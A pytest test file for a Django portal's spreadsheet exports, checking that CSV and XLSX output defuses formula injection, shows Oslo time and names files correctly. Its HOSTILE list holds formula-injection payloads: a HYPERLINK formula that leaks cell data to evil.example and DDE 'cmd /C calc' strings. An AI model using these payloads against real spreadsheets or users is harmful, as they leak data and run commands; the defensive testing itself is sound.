"""Every spreadsheet export of the admin (portal/exports.py) with a hostile
corpus: no cell a spreadsheet would run, times in Oslo time, a BOM on the CSV,
file names that say what they hold (issue 11 major 4 and the exports minor)."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from feedback.choices import InputKind
from hearings.models import HearingIndexPage
from hearings.services import hearing_response_create
from portal.exports import FORMULA_PREFIXES, defuse
from search.models import SearchTermDaily
from tests.factories import (
    UnitFactory,
    UserFactory,
    add_page,
    make_service,
    staff_login,
    submit,
)
from tests.hearings.conftest import make_hearing

pytestmark = pytest.mark.django_db

# What residents have typed into names, subjects, texts and searches.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "|calc",
]
# 14:05 in Oslo in winter is 13:05 UTC.
RECEIVED = timezone.make_aware(datetime.datetime(2026, 11, 30, 14, 5))


def _live(cell: str) -> bool:
    return isinstance(cell, str) and cell.lstrip(" ").startswith(FORMULA_PREFIXES)


def _csv(response) -> tuple[str, list[list[str]]]:
    raw = b"".join(response.streaming_content).decode("utf-8")
    return raw, list(csv.reader(io.StringIO(raw.removeprefix("\ufeff"))))


def _xlsx(response) -> list[list]:
    content = (
        b"".join(response.streaming_content)
        if response.streaming
        else (response.content)
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    formulas = [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _check(client, url, *, filename, hostile=True):
    """Both formats: nothing live, the hostile text kept (defused), the name."""
    today = f"{timezone.localdate():%Y-%m-%d}"
    csv_response = client.get(url, {"export": "csv"})
    assert csv_response.status_code == 200
    assert csv_response["Content-Disposition"] == (
        f'attachment; filename="{filename}-{today}.csv"'
    )
    raw, rows = _csv(csv_response)
    assert raw.startswith("\ufeff")
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if _live(c)] == []
    xlsx_response = client.get(url, {"export": "xlsx"})
    assert f"{filename}-{today}.xlsx" in xlsx_response["Content-Disposition"]
    xlsx_cells = [c for row in _xlsx(xlsx_response) for c in row]
    assert [c for c in xlsx_cells if _live(c)] == []
    if hostile:
        defused = {defuse(h) for h in HOSTILE}
        assert defused & set(cells), "the corpus did not reach the CSV"
        assert defused & set(xlsx_cells), "the corpus did not reach the XLSX"
    return rows, xlsx_cells


def test_defuse():
    for text in HOSTILE:
        assert defuse(text) == "'" + text
    for safe in ["Hull i veien", "2026-000123", "e-post: kari@example.org", 42, None]:
        assert defuse(safe) == safe


@pytest.fixture
def superuser(client):
    user = UserFactory(username="root", is_superuser=True)
    staff_login(client, user)
    return user


def test_inbox_export(client, superuser, unit):
    for i, text in enumerate(HOSTILE):
        submit(
            kind=InputKind.QUESTION,
            subject=text,
            text=text,
            contact_name=HOSTILE[-1 - i],
            notify=False,
            now=RECEIVED,
        )
    rows, xlsx_cells = _check(
        client, reverse("feedback_inbox:index"), filename="innspill"
    )
    heading = rows[0]
    received = heading.index("Mottatt")
    # The screen's time, Oslo: 14:05 (UTC would say 13:05).
    assert {row[received] for row in rows[1:]} == {"2026-11-30 14:05"}
    assert datetime.datetime(2026, 11, 30, 14, 5) in xlsx_cells


def test_hearing_responses_export(client, superuser, site):
    plan = UnitFactory(slug="plan", name="Plan og bygg")
    index = add_page(
        site["home"],
        HearingIndexPage(title="Høringer", slug="horinger", summary="Alle."),
    )
    hearing = make_hearing(index, plan)
    for i, text in enumerate(HOSTILE):
        hearing_response_create(
            hearing=hearing,
            data={
                "respondent_type": "organisation",
                "name": text,
                "organisation": HOSTILE[-1 - i],
                "text": text,
                "publish_name": False,
                "email": "",
            },
            notify=False,
        )
    _check(
        client,
        reverse("hearings_admin:responses", args=[hearing.pk]),
        filename=f"horingssvar-{hearing.slug}",
    )


def test_page_feedback_export(client, superuser, site, unit):
    page = make_service(site["topic"], unit, HOSTILE[0])
    for text in HOSTILE:
        submit(
            kind=InputKind.PAGE_FEEDBACK,
            page=page,
            helpful=False,
            text=text,
            notify=False,
        )
    _check(
        client, reverse("feedback_tools:page_feedback"), filename="sidetilbakemeldinger"
    )


def test_search_terms_export(client, superuser):
    for text in HOSTILE:
        SearchTermDaily.objects.create(
            date=timezone.localdate(), query=text[:100], searches=3
        )
    _check(client, "/admin/reports/sokeord/", filename="sokeord")


def test_unit_report_export(client, superuser, unit):
    submit(kind=InputKind.QUESTION, text="Hei", notify=False)
    _check(
        client,
        reverse("feedback_tools:report") + f"?unit={unit.pk}",
        filename="innspill-rapport",
        hostile=False,
    )
